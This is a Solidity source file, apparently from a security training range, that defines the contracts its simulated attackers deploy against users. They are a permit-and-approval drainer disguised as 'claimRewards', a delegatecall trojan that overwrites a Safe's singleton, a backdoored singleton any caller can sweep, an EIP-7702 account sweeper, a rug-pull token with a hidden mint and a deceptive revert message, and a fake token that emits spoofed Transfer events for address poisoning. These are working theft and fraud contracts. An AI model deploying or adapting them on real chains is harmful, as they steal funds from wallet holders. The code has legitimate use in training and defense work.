// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Address} from "@openzeppelin/contracts/utils/Address.sol";
import {Owned} from "./Attackers.sol";

/// What the range's attackers deploy against people: the contracts behind phishing, poisoning and rug pulls.

/// What the drainer calls of a token, fungible or not.
interface IVictimToken {
    function permit(address from, address spender, uint256 amount, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external;

    function transferFrom(address from, address to, uint256 amountOrId) external;
}

/// A phishing site's contract: takes what victims have approved or signed for, under an innocent name.
contract Drainer is Owned {
    function claimRewards(
        IVictimToken token,
        address victim,
        uint256 amount,
        uint256 deadline,
        uint8 v,
        bytes32 r,
        bytes32 s
    ) external {
        token.permit(victim, address(this), amount, deadline, v, r, s);
        token.transferFrom(victim, owner, amount);
    }

    function nfts(IVictimToken token, address victim, uint256[] calldata ids) external {
        for (uint256 i; i < ids.length; i++) {
            token.transferFrom(victim, owner, ids[i]);
        }
    }

    function erc20s(IVictimToken[] calldata tokens, address victim, uint256[] calldata amounts) external {
        for (uint256 i; i < tokens.length; i++) {
            tokens[i].transferFrom(victim, owner, amounts[i]);
        }
    }
}

/// Looks like a token when a Safe's owners sign; delegate-called by the Safe it overwrites slot 0, the singleton.
contract TrojanTransfer {
    address private singleton;

    function transfer(address to, uint256) external {
        singleton = to;
    }
}

/// What the Safe runs after TrojanTransfer: whoever calls takes everything.
contract BackdoorSingleton {
    using SafeERC20 for IERC20;

    /// The Safe's proxy keeps its singleton here.
    address private singleton;

    receive() external payable {}

    function sweepERC20(IERC20 token, address to) external {
        token.safeTransfer(to, token.balanceOf(address(this)));
    }

    function sweepETH(address payable to) external {
        Address.sendValue(to, address(this).balance);
    }
}

/// What a phished account delegates its code to (EIP-7702): everything in it, and all ether it is ever sent, goes to
/// the creator of this contract, whoever calls.
contract Sweeper7702 is Owned {
    receive() external payable {
        _takeEtherHome();
    }

    function sweep(IERC20[] calldata tokens) external {
        for (uint256 i; i < tokens.length; i++) {
            _takeHome(tokens[i]);
        }
        _takeEtherHome();
    }
}

/// A token made to be sold: its owner can stop others from selling, and can mint under an innocent name.
contract RugToken is ERC20, Ownable {
    address public pool;
    bool public sellingClosed;

    constructor(string memory name_, string memory symbol_, address owner_) ERC20(name_, symbol_) Ownable(owner_) {
        _mint(owner_, 1_000_000e18);
    }

    function setPool(address pool_) external onlyOwner {
        pool = pool_;
    }

    function setSellingClosed(bool closed) external onlyOwner {
        sellingClosed = closed;
    }

    function rebase(address to, uint256 amount) external onlyOwner {
        _mint(to, amount);
    }

    /// The reason is worded as a router's, to look like a passing fault.
    function _update(address from, address to, uint256 amount) internal override {
        require(!sellingClosed || to != pool || from == owner(), "TransferHelper: TRANSFER_FROM_FAILED");
        super._update(from, to, amount);
    }
}

/// A token that only pretends: its Transfer events say what its spammer likes, and no balance ever moves.
contract FakeToken {
    string public name;
    string public symbol;
    uint8 public immutable decimals;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(string memory name_, string memory symbol_, uint8 decimals_) {
        name = name_;
        symbol = symbol_;
        decimals = decimals_;
    }

    function spam(address[] calldata from, address[] calldata to, uint256[] calldata values) external {
        for (uint256 i; i < from.length; i++) {
            emit Transfer(from[i], to[i], values[i]);
        }
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }
}
